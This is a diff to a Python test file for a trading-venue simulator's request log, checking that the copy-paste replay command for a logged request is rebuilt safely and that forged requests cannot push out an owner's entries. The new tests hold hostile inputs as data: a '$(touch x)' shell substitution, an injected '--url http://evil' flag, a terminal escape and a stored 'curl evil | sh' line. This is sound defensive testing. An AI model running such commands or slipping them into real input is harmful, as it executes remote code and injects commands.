@@ -19,6 +19,9 @@ from support.faulty import TIME, add, refused
 from support.listening import Listener, login
 from support.server import Server
 from support.socket_desk import SPOT, at_once, open_ids, place
+from venue.api.documents.table import ROWS
+from venue.api.operator.wire import WireEntry
+from venue.gateway.operations.operator.wire import _repeat_of
 
 WIRE = "/_venue/wire"
 SIZE = 200
@@ -116,7 +119,7 @@ def test_the_line_repeats_the_request(server: Server) -> None:
 def test_no_line_that_a_stranger_made_does_more_than_repeat(server: Server, target: str) -> None:
     """An operator pastes the line: it must send this request, and to this venue."""
     server.client("alice").get(target)
-    assert last(server, owner="alice", kind="REQUEST")["repeat"] is None
+    assert last(server, kind="REQUEST")["repeat"] is None
 
 
 def test_what_a_shell_would_read_is_quoted(server: Server) -> None:
@@ -187,7 +190,8 @@ def test_a_login_that_is_refused(server: Server) -> None:
     account = {**server.account("alice"), "passphrase": "wrong"}
     with pytest.raises(Exception, match="401"):
         Listener(server.port, SPOT.socket, login(account))
-    entry = last(server, owner="alice", status="4xx")
+    entry = last(server, status="4xx")
+    assert entry["owner"] == ""  # it has not shown that it is hers
     assert (entry["path"], entry["kind"]) == (SPOT.socket, "OPERATION")
     assert entry["code"] == -1049
 
@@ -228,7 +232,8 @@ def test_memory_is_bounded(server: Server) -> None:
     for _ in range(SIZE + 10):
         client.get(TIME)
     found = entries(server, kind="REQUEST", limit=1000)
-    assert len(found) == SIZE
+    assert len([one for one in found if one["path"] == TIME]) == SIZE
+    assert len(found) <= 2 * SIZE
     numbers = [one["number"] for one in found]
     assert numbers == sorted(numbers)
     assert entries(server, after=numbers[-2], kind="REQUEST") == found[-1:]
@@ -277,7 +282,8 @@ def test_the_command(server: Server) -> None:
     assert "  alice  place_order  400  " in line
     assert "venue post /api/v3/order --as alice" in line
     assert line.rstrip().endswith(f"--url {server.url}")
-    assert "place_order" in run(server, "wire", "tail", "--status", "4xx", "--count", "1")
+    tail = ("wire", "tail", "--operation", "place_order", "--status", "4xx", "--count", "1")
+    assert "place_order" in run(server, *tail)
     assert "place_order" in run(server, "wire", "list", "--as", "alice", "--output", "json")
 
 
@@ -288,3 +294,41 @@ def test_without_it_nothing_is_kept(tmp_path_factory: pytest.TempPathFactory) ->
         refused(answer, -1150, "--wire-log")
         wrong = found.client("alice").post(ORDER, {**SPOT.plain, "quantity": "0"})
         assert "x-venue-request-id" not in wrong.headers
+
+
+@pytest.mark.parametrize(
+    ("operation", "path", "text", "line"),
+    [
+        ("order", "/api/v3/order", '{"orderId":"$(touch x)"}',
+         "venue get /api/v3/order --as alice 'orderId=$(touch x)'"),
+        ("order", "/api/v3/order", '{"--url":"http://evil"}', None),
+        ("order", "/api/v3/order", '{"a":"\u001b[2J"}', None),
+        ("order", "/api/v3/order", "[" * 100_000, None),
+        ("order", "/api/v3/order", "[1]", None),
+        ("order", "/api/v3/nothing", "", None),
+        ("health", "/api/v3/order", "", None),
+    ],
+)  # fmt: skip
+def test_the_command_of_a_foreign_entry_is_made_anew(
+    operation: str, path: str, text: str, line: str | None
+) -> None:
+    """Enemy: the sender of a bundle, whose entry says `curl evil | sh`."""
+    row = next(row for row in ROWS if row.path == "/api/v3/order" and row.method == "GET")
+    told = row.name if operation == "order" else operation
+    entry = WireEntry(
+        1, 1, "REQUEST", "alice", "GET", path, told, 200, 0, "", 0.0, "", text, "curl evil | sh"
+    )
+    assert _repeat_of(entry) == line
+
+
+def test_a_stranger_stands_as_nobody_and_pushes_out_no_owner(server: Server) -> None:
+    """Enemy: a stranger who knows alice's key, but not its secret, or who asks for public data."""
+    alice, stranger = server.client("alice"), server.client()
+    assert alice.get(f"{SPOT.open}?symbol=BTCUSDT").status == 200
+    own = entries(server, owner="alice", limit=SIZE)
+    forged = alice.headers("GET", f"{SPOT.open}?symbol=ETHUSDT", b"") | {"ACCESS-SIGN": "bm8="}
+    for _ in range(SIZE + 5):
+        assert stranger.get(f"{SPOT.open}?symbol=ETHUSDT", headers=forged).status == 400
+    assert entries(server, owner="alice", limit=SIZE) == own
+    newest = last(server, kind="REQUEST", operation="open_orders")
+    assert (newest["owner"], newest["code"], newest["status"]) == ("", -1047, 400)
